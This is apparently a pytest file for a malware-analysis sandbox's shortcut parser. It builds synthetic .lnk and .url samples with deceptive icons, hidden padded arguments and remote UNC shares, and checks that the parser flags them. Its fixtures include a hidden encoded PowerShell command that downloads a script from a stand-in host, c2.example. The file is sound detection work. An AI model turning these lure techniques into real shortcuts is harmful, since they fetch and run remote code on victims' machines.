"""Where a shortcut leads, and how it hides that."""

import base64
import contextlib
import struct
from pathlib import Path
from typing import Any

import pytest

from malbox.sdk import PluginFailure, PluginSkipped
from malbox.sdk.testing import run_plugin
from services.plugins.builtin.scripts import plugin as scripts
from services.plugins.builtin.shortcuts import plugin, windows
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
NOTEPAD = "C:\\Windows\\notepad.exe"
MACHINE = "ann-desktop"


def shortcut(
    target: str, arguments: str = "", icon: str = "", *, share: str = "", working_directory: str = "C:\\"
) -> bytes:
    """A shell link ([MS-SHLLINK]) with link information, strings, a tracker and the end mark."""
    strings = {0x10: working_directory, 0x20: arguments, 0x40: icon}
    flags = 0x02 | 0x80 | sum(bit for bit, value in strings.items() if value)
    header = windows.MAGIC + struct.pack("<II", flags, 0x20) + bytes(24) + struct.pack("<IIIHHII", 0, 0, 7, 0, 0, 0, 0)
    data = b"".join(struct.pack("<H", len(value)) + value.encode("utf-16-le") for value in strings.values() if value)
    tracker = struct.pack("<IIII", 0x60, 0xA0000003, 0x58, 0) + MACHINE.encode().ljust(16, b"\0") + bytes(64)
    return header + (_network(share, target) if share else _local(target)) + data + tracker + bytes(4)


def _local(path: str) -> bytes:
    volume = struct.pack("<IIII", 17, 3, 0x1234, 16) + b"\0"
    text = path.encode() + b"\0"
    base = 28 + len(volume)
    size = base + len(text) + 1
    return struct.pack("<7I", size, 28, 1, 28, base, 0, base + len(text)) + volume + text + b"\0"


def _network(share: str, suffix: str) -> bytes:
    name = share.encode() + b"\0"
    relative = struct.pack("<5I", 20 + len(name), 2, 20, 0, 0x20000) + name
    text = suffix.encode() + b"\0"
    at = 28 + len(relative)
    return struct.pack("<7I", at + len(text), 28, 2, 0, 0, 28, at) + relative + text


def internet(**values: str) -> bytes:
    return ("[InternetShortcut]\r\n" + "".join(f"{key}={value}\r\n" for key, value in values.items())).encode()


def read(sample: Path, scratch: Path) -> Any:
    return run_plugin(plugin.run, sample, scratch=scratch).json("shortcuts")


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


def test_a_shortcut_is_read(make_sample: MakeSample, tmp_path: Path) -> None:
    """Target, arguments, icon, and the machine where it was made."""
    content = shortcut(CMD, "/c start http://c2.example/a", "C:\\Program Files\\Adobe\\AcroRd32.exe")
    said = read(make_sample(content), tmp_path)
    assert (said["target"], said["arguments"]) == (CMD, "/c start http://c2.example/a")
    assert said["icon"].endswith("AcroRd32.exe")
    assert MACHINE in said["tracker"].values()
    assert "c2.example" in {one["value"] for one in said["indicators"]}
    assert {"lnk_runs_interpreter", "lnk_icon_deceives"} == traits(said)


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        (shortcut(CMD, "/c calc"), "lnk_runs_interpreter"),
        (shortcut(NOTEPAD, " " * 100 + "a.txt"), "lnk_hidden_arguments"),
        (shortcut(NOTEPAD, "x" * 300), "lnk_hidden_arguments"),
        (shortcut(CMD, "/c calc", "C:\\a\\report.pdf"), "lnk_icon_deceives"),
        (shortcut(NOTEPAD, "", "\\\\192.0.2.1\\share\\a.ico"), "shortcut_reaches_out"),
        (shortcut("a.exe", share="\\\\192.0.2.1\\share"), "shortcut_reaches_out"),
        (internet(URL="file://192.0.2.1/share/a.exe"), "shortcut_reaches_out"),
        (internet(URL="https://a.example/", IconFile="\\\\192.0.2.1\\a.ico"), "shortcut_reaches_out"),
    ],
)
def test_what_a_shortcut_hides_is_a_trait(content: bytes, trait: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Each in a shortcut that hides nothing else."""
    assert trait in traits(read(make_sample(content), tmp_path))


@pytest.mark.parametrize(
    "content",
    [shortcut(NOTEPAD), shortcut(NOTEPAD, "C:\\notes.txt", NOTEPAD), internet(URL="https://a.example/", IconIndex="0")],
)
def test_an_ordinary_shortcut_has_no_trait(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits."""
    said = read(make_sample(content), tmp_path)
    assert (said["traits"], said["problems"]) == ([], [])


def test_other_files_are_skipped(make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    with pytest.raises(PluginSkipped):
        read(make_sample(b"[Settings]\r\nURL=x\r\n"), tmp_path)


@pytest.mark.parametrize("content", [windows.MAGIC, windows.MAGIC + b"\xff" * 100, b"[InternetShortcut]\r\n[\r\n"])
def test_a_corrupted_shortcut_fails_in_words_or_is_read_in_part(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Never with an error of the library's."""
    with contextlib.suppress(PluginFailure):
        assert read(make_sample(content), tmp_path)["format"]


@pytest.mark.parametrize(
    "content", [shortcut(CMD, "/c calc" + " " * 50, "a.pdf"), shortcut("a", share="\\\\h\\s"), internet(URL="x:/y")]
)
def test_a_damaged_shortcut_is_a_failure_or_a_part_never_a_crash(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Cut and flipped in many places."""
    for damaged in mutations(content, 300, "shortcut"):
        with contextlib.suppress(PluginFailure, PluginSkipped):
            assert len(read(make_sample(damaged), tmp_path)["arguments"]) <= windows.ARGUMENTS_MAX_CHARS


def test_what_an_interpreter_is_told_to_do_comes_out(make_sample: MakeSample, tmp_path: Path) -> None:
    """As a line that the plugin for scripts unfolds; the blanks that hide it are gone."""
    packed = base64.b64encode("Invoke-WebRequest http://c2.example/a.ps1".encode("utf-16-le")).decode()
    sample = make_sample(shortcut(POWERSHELL, " " * 300 + f"-w hidden -enc {packed}"))
    emitted = run_plugin(plugin.run, sample, scratch=tmp_path)
    [child] = emitted.json("shortcuts")["children"]
    line = emitted.content[child["name"]]
    assert (child["path"], line) == (
        "command line > command.cmd",
        f"{POWERSHELL} -w hidden -enc {packed}\r\n".encode(),
    )
    unfolded = run_plugin(scripts.run, make_sample(line), scratch=tmp_path, sample_name="command.cmd").json("scripts")
    assert "c2.example" in {one["value"] for one in unfolded["indicators"]}


@pytest.mark.parametrize(
    "content", [shortcut(CMD, "/c calc"), shortcut(NOTEPAD, "x" * 300)], ids=["short", "an editor"]
)
def test_an_ordinary_command_line_is_no_child(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control: what is short is shown whole, and what no interpreter reads is no script."""
    assert read(make_sample(content), tmp_path)["children"] == []
